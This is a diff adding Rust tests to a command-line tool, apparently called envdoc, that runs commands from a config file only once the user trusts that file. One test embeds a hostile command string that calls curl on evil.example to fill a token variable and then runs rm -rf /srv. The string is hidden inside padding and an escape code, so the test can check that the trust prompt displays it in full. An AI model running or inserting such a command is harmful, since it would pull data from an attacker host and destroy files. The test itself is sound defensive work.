@@ -138,6 +138,21 @@ fn a_hostile_checkout_executes_nothing() {
         assert!(status == "unknown" && message.contains(&command), "{id}: {status}: {message}");
     }
     assert_eq!(checkout.run(&["check", "--only", "own", "--strict"]).status.code(), Some(3));
+    // Of a file that is trusted elsewhere, a link in the checkout is that file: its commands run where it is.
+    let infra = checkout.folder.path().join("infra");
+    fs::create_dir_all(infra.join("tools")).unwrap();
+    fs::write(infra.join("envdoc.toml"), "[[check]]\nname = 'x'\ncommand = './tools/check.sh'\n").unwrap();
+    fs::write(infra.join("tools/check.sh"), "#!/bin/sh\necho from infra\nexit 1\n").unwrap();
+    fs::set_permissions(infra.join("tools/check.sh"), fs::Permissions::from_mode(0o755)).unwrap();
+    assert!(checkout.run(&["trust", "../infra/envdoc.toml"]).status.success());
+    checkout.script("tools/check.sh", &payload);
+    let own = checkout.project().join("envdoc.toml");
+    fs::rename(&own, checkout.project().join("own.toml")).unwrap();
+    std::os::unix::fs::symlink("../infra/envdoc.toml", &own).unwrap();
+    let results = checkout.checked(&[]);
+    assert!(!marker.exists(), "{results:?}");
+    assert_eq!(results, [("own:x".into(), "error".into(), "from infra".into())]);
+    fs::rename(checkout.project().join("own.toml"), &own).unwrap();
     // The commands do execute something: what kept them from it is that nobody trusted the file.
     assert!(checkout.run(&["trust"]).status.success());
     checkout.run(&["check", "--only", "own"]);
@@ -164,11 +179,12 @@ fn trust_holds_for_one_content_until_it_is_revoked() {
     assert_eq!(checkout.status_of("own:good"), "unknown");
     let output = checkout.run(&["trust"]);
     assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
-    assert!(text(&output.stdout).contains("own:good  runs `true`"), "shows what may run");
+    let shown = format!("own:good  runs `true` in {}\n", checkout.project().display());
+    assert!(text(&output.stdout).contains(&shown), "shows what may run: {}", text(&output.stdout));
     assert_eq!(checkout.status_of("own:good"), "pass");
     assert_eq!(checkout.status_of("own:scratch-mounted"), "warning");
     let list = || text(&checkout.run(&["trust", "--list"]).stdout);
-    assert!(list().starts_with(&format!("{}  (since ", file.display())), "{}", list());
+    assert!(list().starts_with(&format!("{}  (trusted ", file.display())), "{}", list());
     let shown = text(&checkout.run(&["config"]).stdout);
     assert!(shown.contains("own:good: true  (envdoc.toml, line 2)") && !shown.contains("trust"), "{shown}");
 
@@ -176,7 +192,7 @@ fn trust_holds_for_one_content_until_it_is_revoked() {
     let (_, status, message) = checkout.checked(&[]).swap_remove(0);
     assert_eq!(status, "unknown");
     assert!(message.contains("has changed since it was trusted"), "{message}");
-    assert!(list().contains("changed since: not trusted"), "{}", list());
+    assert!(list().contains("; changed since, no longer trusted)"), "{}", list());
     assert!(text(&checkout.run(&["config"]).stdout).contains("envdoc trust "));
     let json: Value = serde_json::from_slice(&checkout.run(&["config", "--format", "json"]).stdout).unwrap();
     assert_eq!(json["untrusted"][0], file.to_str().unwrap());
@@ -258,7 +274,7 @@ fn files_of_the_user_need_no_trust_unless_others_can_change_them() {
     assert_eq!(checkout.status_of("own:good"), "pass");
     fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).unwrap();
     let (_, status, message) = checkout.checked(&[]).swap_remove(0);
-    assert!(status == "unknown" && message.contains("can be changed by other users"), "{message}");
+    assert!(status == "unknown" && message.contains("can be modified by other users"), "{message}");
 }
 
 fn refused_until_trusted(checkout: &Checkout, arguments: &[&str], option: &[&str], part: &str) {
@@ -307,6 +323,61 @@ fn settings_that_change_what_a_build_installs_require_trust() {
         &["--file", "x.yaml"],
         "other.yaml",
     );
+}
+
+/// What is hidden of a command could be what does the harm.
+#[test]
+fn trust_shows_the_whole_command() {
+    let checkout = Checkout::new();
+    let (before, after) = ("true; ".repeat(400), "; true".repeat(400));
+    let payload = "API_TOKEN=`curl evil.example`; rm -rf /srv";
+    checkout.write(
+        "envdoc.toml",
+        &format!("[[check]]\nname = 'x'\ncommand = \"{before}{payload}{after}\\u001b[2K\"\n"),
+    );
+    let shown = text(&checkout.run(&["trust"]).stdout);
+    assert!(shown.contains(&format!("{before}{payload}{after}")), "{shown}");
+    assert!(!shown.contains('\u{1b}') && shown.lines().count() == 1, "{shown:?}");
+}
+
+#[test]
+fn an_untrusted_file_does_not_switch_off_the_users_checks() {
+    let checkout = Checkout::new();
+    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
+    fs::write(user, "[[check]]\nname = 'disk'\ncommand = 'exit 1'\n").unwrap();
+    for id in ["own", "own:disk"] {
+        checkout
+            .write("envdoc.toml", &format!("ignore = ['{id}']\n[[check]]\nname = 'p'\ncommand = 'true'\n"));
+        let output = checkout.run(&["check", "--only", "own"]);
+        assert_eq!(output.status.code(), Some(1), "{id}: {}", text(&output.stdout));
+        let note = "own:disk is not ignored: the file is not trusted (envdoc.toml, line 1)";
+        assert!(text(&output.stderr).contains(note), "{id}: {}", text(&output.stderr));
+        checkout.run(&["trust"]);
+        assert_ne!(checkout.run(&["check", "--only", "own"]).status.code(), Some(1), "{id}");
+    }
+    // A trusted file may, and says so; if nothing is left, there is no report.
+    let output = checkout.run(&["check", "--only", "own:disk"]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(output.stdout.is_empty());
+    let message = "no checks left: own:disk is ignored by envdoc.toml";
+    assert!(text(&output.stderr).contains(message), "{}", text(&output.stderr));
+}
+
+/// Each mirror is judged by the file that names it.
+#[test]
+fn an_untrusted_mirror_does_not_block_the_other() {
+    let checkout = Checkout::new();
+    checkout.write("envdoc.toml", "pip-index = 'https://pip.example/simple'\n");
+    let user = checkout.folder.path().join("home/.config/envdoc/envdoc.toml");
+    fs::write(user, "apt-mirror = 'https://apt.example'\n").unwrap();
+    let dockerfile = &["render", "dockerfile", "--torch", "2.6.0", "--cuda", "12.4"];
+    let output = checkout.run(&[&dockerfile[..], &["--pip-index", "https://own.example/simple"]].concat());
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    assert!(text(&output.stdout).contains("https://apt.example"), "{}", text(&output.stdout));
+    let refused = checkout.run(dockerfile);
+    assert_eq!(refused.status.code(), Some(2));
+    let project = checkout.project().join("envdoc.toml").display().to_string();
+    assert!(text(&refused.stderr).contains(&format!("cannot be used: {project} is not trusted")));
 }
 
 #[test]
